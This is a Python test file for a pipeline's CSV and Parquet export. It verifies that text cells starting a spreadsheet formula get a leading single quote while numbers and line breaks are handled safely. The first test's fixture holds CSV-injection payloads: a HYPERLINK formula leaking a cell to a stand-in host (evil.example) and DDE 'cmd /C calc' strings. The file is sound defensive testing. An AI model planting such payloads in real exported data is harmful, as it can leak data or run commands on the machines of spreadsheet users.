"""CSV safety (issue 11, observation 2): a text cell a spreadsheet would evaluate is written with
a single quote in front, the rest kept; numbers are never touched; Parquet keeps the original."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pyarrow as pa
import pyarrow.csv
import pyarrow.parquet as pq
from hypothesis import given, settings
from hypothesis import strategies as st

from pipelines.publish.files import BOM, csv_text, write_csv, write_parquet
from tests.helpers import reference_csv

from .strategies import FORMULA_PREFIXES, formula_cells, safe_cells

HYPO = settings(max_examples=200, deadline=None)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_payloads_of_the_issue_by_hand(tmp_path):
    table = pa.table(
        {
            "description": ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "Pôle de l'aéronautique"],
            "address": ["+cmd|' /C calc'!A0", "12 rue de la République"],
            "company": ["@SUM(1+1)*cmd|' /C calc'!A0", "-"],
            "contact_phone": ["+33536491010", None],
            "themes": pa.array([["=1+1", "Spatial"], ["Aéronautique"]], pa.list_(pa.string())),
            "n": pa.array([-5, 3], pa.int64()),
            "score": pa.array([-0.5, 0.25], pa.float64()),
        }
    )
    write_csv(table, tmp_path / "t.csv")
    raw = (tmp_path / "t.csv").read_bytes()
    assert raw.startswith(BOM)
    assert raw[len(BOM) :].decode("utf-8") == (
        "description,address,company,contact_phone,themes,n,score\n"
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"")",\'+cmd|\' /C calc\'!A0,'
        "'@SUM(1+1)*cmd|' /C calc'!A0,'+33536491010,'=1+1;Spatial,-5,-0.5\n"
        "Pôle de l'aéronautique,12 rue de la République,'-,,Aéronautique,3,0.25\n"
    )
    write_parquet(table, tmp_path / "t.parquet")
    assert pq.read_table(tmp_path / "t.parquet").to_pylist() == table.to_pylist()


@HYPO
@given(
    st.lists(st.one_of(formula_cells, safe_cells, st.none()), min_size=1, max_size=20),
    st.lists(st.integers(-(10**6), 10**6), min_size=20, max_size=20),
)
def test_no_cell_starts_a_formula_and_the_text_comes_back(cells, numbers):
    numbers = numbers[: len(cells)]
    table = pa.table({"s": pa.array(cells, pa.string()), "n": pa.array(numbers, pa.int64())})
    text = csv_text(table)
    assert text == reference_csv(table)  # the Arrow path and the reference writer agree
    body = _rows(text)[1:]
    assert len(body) == len(cells)
    for (cell, number), original, n in zip(body, cells, numbers):
        assert not cell.startswith(tuple(FORMULA_PREFIXES)), cell
        original = original or ""
        assert cell == ("'" + original if original.startswith(tuple(FORMULA_PREFIXES)) else original)
        assert number == str(n)  # "-5" stays a number


@HYPO
@given(st.lists(st.one_of(formula_cells, safe_cells), min_size=1, max_size=10))
def test_every_prefixed_cell_gets_exactly_one_quote(cells):
    text = csv_text(pa.table({"s": pa.array(cells, pa.string())}))
    for original in cells:
        written = "'" + original if original.startswith(tuple(FORMULA_PREFIXES)) else original
        assert written.replace('"', '""') in text


def test_negative_numbers_stay_numbers():
    table = pa.table({"n": pa.array([-1, -20], pa.int64()), "f": pa.array([-1.5, None], pa.float64())})
    assert csv_text(table) == "n,f\n-1,-1.5\n-20,\n"


def test_a_line_break_inside_a_cell_is_quoted_so_every_reader_keeps_the_row_whole():
    """A bare CR (or LF) in a scraped text must not split a row: pandas and pyarrow read the file
    back with the same rows and cells (CR unquoted, pandas split the row and pyarrow refused it)."""
    cells = ["a\rb", "c\nd", "e\r\nf", "plain", "=1\r+1"]
    table = pa.table({"s": pa.array(cells), "n": pa.array(range(len(cells)), pa.int64())})
    text = csv_text(table)
    assert text == reference_csv(table)
    expected = ["a\rb", "c\nd", "e\r\nf", "plain", "'=1\r+1"]
    assert [row[0] for row in _rows(text)[1:]] == expected
    frame = pd.read_csv(io.StringIO(text, newline=""), dtype=str, keep_default_na=False)
    assert frame["s"].tolist() == expected and frame["n"].tolist() == ["0", "1", "2", "3", "4"]
    arrow = pyarrow.csv.read_csv(io.BytesIO(text.encode("utf-8")))
    assert arrow.column("s").to_pylist() == expected
